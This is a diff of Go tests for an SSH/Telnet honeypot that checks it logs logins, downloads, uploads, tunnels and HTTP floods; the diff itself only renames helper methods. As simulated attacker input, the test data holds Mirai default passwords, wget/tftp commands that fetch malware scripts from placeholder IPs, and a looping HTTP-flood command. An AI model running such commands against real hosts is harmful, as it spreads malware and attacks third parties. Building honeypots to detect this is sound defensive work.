@@ -72,7 +72,7 @@ func TestVersionAndHASSH(t *testing.T) {
 	cc.MACs = []string{"hmac-sha1"}
 	cl := dial(t, ts.addr, cc)
 	cl.Close()
-	evs := ts.pub.waitKind(t, event.SessionConnect, 2)
+	evs := ts.pub.WaitKind(t, event.SessionConnect, 2)
 	e := evs[1]
 	if e.ClientVersion != "SSH-2.0-libssh2_1.4.3" {
 		t.Errorf("connect: client version %q", e.ClientVersion)
@@ -102,21 +102,21 @@ func TestPasswordLoginAndExec(t *testing.T) {
 		t.Errorf("status %d, output %q", status, out)
 	}
 	cl.Close()
-	ts.pub.waitKind(t, event.SessionClosed, 1)
-	logins := ts.pub.ofKind(event.LoginSuccess)
+	ts.pub.WaitKind(t, event.SessionClosed, 1)
+	logins := ts.pub.OfKind(event.LoginSuccess)
 	if len(logins) != 1 || logins[0].Username != "root" || *logins[0].Password != event.Text("xc3511") || logins[0].Proto != "ssh" {
 		t.Fatalf("login events %+v", logins)
 	}
-	if d := ts.pub.ofKind(event.FileDownload); len(d) != 1 || d[0].URL != "http://198.51.100.7/bins/mirai.arm" || d[0].Tool != "wget" {
+	if d := ts.pub.OfKind(event.FileDownload); len(d) != 1 || d[0].URL != "http://198.51.100.7/bins/mirai.arm" || d[0].Tool != "wget" {
 		t.Errorf("downloads %+v", d)
 	}
 	// exec is sh -c: the whole text is one command.
-	if c := ts.pub.ofKind(event.CommandInput); len(c) != 1 || c[0].Input != "echo hello\nwget http://198.51.100.7/bins/mirai.arm" || !strings.HasPrefix(string(c[0].Output), "hello\n") {
+	if c := ts.pub.OfKind(event.CommandInput); len(c) != 1 || c[0].Input != "echo hello\nwget http://198.51.100.7/bins/mirai.arm" || !strings.HasPrefix(string(c[0].Output), "hello\n") {
 		t.Errorf("commands %+v", c)
 	}
-	evs := ts.pub.events()
+	evs := ts.pub.Events()
 	if evs[0].Kind != event.SessionConnect || evs[len(evs)-1].Kind != event.SessionClosed {
-		t.Errorf("order %v", ts.pub.kinds())
+		t.Errorf("order %v", ts.pub.Kinds())
 	}
 	for _, e := range evs {
 		if e.Session != evs[0].Session {
@@ -135,8 +135,8 @@ func TestLoginFailuresEndConnection(t *testing.T) {
 	if _, err := xssh.Dial("tcp", ts.addr, cc); err == nil {
 		t.Fatal("login with a wrong password succeeded")
 	}
-	closed := ts.pub.waitKind(t, event.SessionClosed, 1)
-	if got := len(ts.pub.ofKind(event.LoginFailed)); got != 3 || tries != 3 {
+	closed := ts.pub.WaitKind(t, event.SessionClosed, 1)
+	if got := len(ts.pub.OfKind(event.LoginFailed)); got != 3 || tries != 3 {
 		t.Errorf("%d login.failed events, %d tries; want 3", got, tries)
 	}
 	if closed[0].Message != "too many login attempts" {
@@ -156,7 +156,7 @@ func TestKeyboardInteractive(t *testing.T) {
 	if len(asked) != 1 || asked[0] != "Password: " {
 		t.Errorf("questions %q", asked)
 	}
-	if l := ts.pub.waitKind(t, event.LoginSuccess, 1); l[0].Username != "admin" {
+	if l := ts.pub.WaitKind(t, event.LoginSuccess, 1); l[0].Username != "admin" {
 		t.Errorf("login %+v", l[0])
 	}
 }
@@ -169,11 +169,11 @@ func TestPublicKeyRecordedAndRefused(t *testing.T) {
 	}
 	cl := dial(t, ts.addr, clientConfig("root", xssh.PublicKeys(signer), xssh.Password("vizxv")))
 	cl.Close()
-	keys := ts.pub.waitKind(t, event.ClientFingerprint, 1)
+	keys := ts.pub.WaitKind(t, event.ClientFingerprint, 1)
 	if f := keys[0]; f.KeyFingerprint != xssh.FingerprintSHA256(signer.PublicKey()) || f.KeyType != "ssh-ed25519" || keys[0].Username != "root" {
 		t.Errorf("fingerprint event %+v", keys[0])
 	}
-	ts.pub.waitKind(t, event.LoginSuccess, 1)
+	ts.pub.WaitKind(t, event.LoginSuccess, 1)
 }
 
 func TestDirectTCPIPRecordedAndRefused(t *testing.T) {
@@ -185,7 +185,7 @@ func TestDirectTCPIPRecordedAndRefused(t *testing.T) {
 		c.Close()
 		t.Fatal("direct-tcpip was accepted")
 	}
-	tun := ts.pub.waitKind(t, event.DirectTCPIPRequest, 1)
+	tun := ts.pub.WaitKind(t, event.DirectTCPIPRequest, 1)
 	if f := tun[0]; f.TargetHost != "203.0.113.25" || f.TargetPort != 25 {
 		t.Errorf("tunnel event %+v", tun[0])
 	}
@@ -225,11 +225,11 @@ func TestInteractivePTY(t *testing.T) {
 		}
 	}
 	cl.Close()
-	ts.pub.waitKind(t, event.SessionClosed, 1)
-	if c := ts.pub.ofKind(event.CommandInput); len(c) != 3 || c[0].Input != "echo hi" || c[1].Input != "echo hi" || c[2].Input != "exit" {
+	ts.pub.WaitKind(t, event.SessionClosed, 1)
+	if c := ts.pub.OfKind(event.CommandInput); len(c) != 3 || c[0].Input != "echo hi" || c[1].Input != "echo hi" || c[2].Input != "exit" {
 		t.Errorf("command.input events %+v, want echo hi twice and exit (an empty line is no command)", c)
 	}
-	if sz := ts.pub.waitKind(t, event.ClientSize, 1); sz[0].Width != 132 || sz[0].Height != 40 {
+	if sz := ts.pub.WaitKind(t, event.ClientSize, 1); sz[0].Width != 132 || sz[0].Height != 40 {
 		t.Errorf("size %+v", sz[0])
 	}
 }
@@ -269,9 +269,9 @@ func TestCommandLimit(t *testing.T) {
 	if out, status := run(t, cl, "echo 2"); out != "2\n" || status != 1 {
 		t.Errorf("last command: output %q status %d", out, status)
 	}
-	closed := ts.pub.waitKind(t, event.SessionClosed, 1)
-	if closed[0].Message != "command limit" || len(ts.pub.ofKind(event.CommandInput)) != 2 {
-		t.Errorf("close %q, %d commands", closed[0].Message, len(ts.pub.ofKind(event.CommandInput)))
+	closed := ts.pub.WaitKind(t, event.SessionClosed, 1)
+	if closed[0].Message != "command limit" || len(ts.pub.OfKind(event.CommandInput)) != 2 {
+		t.Errorf("close %q, %d commands", closed[0].Message, len(ts.pub.OfKind(event.CommandInput)))
 	}
 }
 
@@ -305,7 +305,7 @@ func TestSCPUpload(t *testing.T) {
 	if err := sess.Wait(); err != nil {
 		t.Fatal(err)
 	}
-	up := ts.pub.waitKind(t, event.FileUpload, 1)
+	up := ts.pub.WaitKind(t, event.FileUpload, 1)
 	sum := sha256.Sum256(payload)
 	want := hex.EncodeToString(sum[:])
 	if f := up[0]; f.SHA256 != want || f.UploadSize != int64(len(payload)) || up[0].Filename != "/tmp/dvrHelper" || up[0].Tool != "scp" {
@@ -352,7 +352,7 @@ func TestSFTPUpload(t *testing.T) {
 	c.status(fxOK)
 	in.Close()
 	sess.Wait()
-	up := ts.pub.waitKind(t, event.FileUpload, 1)
+	up := ts.pub.WaitKind(t, event.FileUpload, 1)
 	sum := sha256.Sum256(append(part1, part2...))
 	if up[0].SHA256 != hex.EncodeToString(sum[:]) || up[0].Filename != "/tmp/x.sh" || up[0].Tool != "sftp" {
 		t.Errorf("upload %+v", up[0])
@@ -424,9 +424,9 @@ func TestDownloadsAndFloodsAsTelnet(t *testing.T) {
 	run(t, cl, "cd /tmp; wget http://198.51.100.1/a.sh || tftp -g -r b.sh 198.51.100.2")
 	run(t, cl, `sh -c "while true; do wget -O /dev/null http://203.0.113.80/; done" &`)
 	cl.Close()
-	ts.pub.waitKind(t, event.SessionClosed, 1)
+	ts.pub.WaitKind(t, event.SessionClosed, 1)
 	var ran, notRan bool
-	for _, d := range ts.pub.ofKind(event.FileDownload) {
+	for _, d := range ts.pub.OfKind(event.FileDownload) {
 		if d.URL == "http://198.51.100.1/a.sh" && d.Ran != nil && *d.Ran {
 			ran = true
 		}
@@ -438,9 +438,9 @@ func TestDownloadsAndFloodsAsTelnet(t *testing.T) {
 		}
 	}
 	if !ran || !notRan {
-		t.Errorf("downloads %+v: want a.sh ran and the tftp fallback not run", ts.pub.ofKind(event.FileDownload))
+		t.Errorf("downloads %+v: want a.sh ran and the tftp fallback not run", ts.pub.OfKind(event.FileDownload))
 	}
-	floods := ts.pub.ofKind(event.AttackHTTPFlood)
+	floods := ts.pub.OfKind(event.AttackHTTPFlood)
 	if len(floods) != 1 || floods[0].TargetURL != "http://203.0.113.80/" || floods[0].Proto != "ssh" {
 		t.Errorf("attack.http_flood events %+v", floods)
 	}
@@ -463,11 +463,11 @@ func TestSCPUploadCutShort(t *testing.T) {
 	}
 	io.WriteString(in, "C0755 1000000 big\n")
 	go in.Write(bytes.Repeat([]byte("A"), 1000000)) // the server ends the session midway
-	up := ts.pub.waitKind(t, event.FileUpload, 1)
+	up := ts.pub.WaitKind(t, event.FileUpload, 1)
 	if up[0].Filename != "/tmp/big" || up[0].UploadSize <= 0 || up[0].UploadSize >= 1000000 || !strings.Contains(string(up[0].Message), "incomplete") {
 		t.Errorf("upload %+v", up[0])
 	}
-	if c := ts.pub.waitKind(t, event.SessionClosed, 1); c[0].Message != "input limit" {
+	if c := ts.pub.WaitKind(t, event.SessionClosed, 1); c[0].Message != "input limit" {
 		t.Errorf("close reason %q", c[0].Message)
 	}
 }
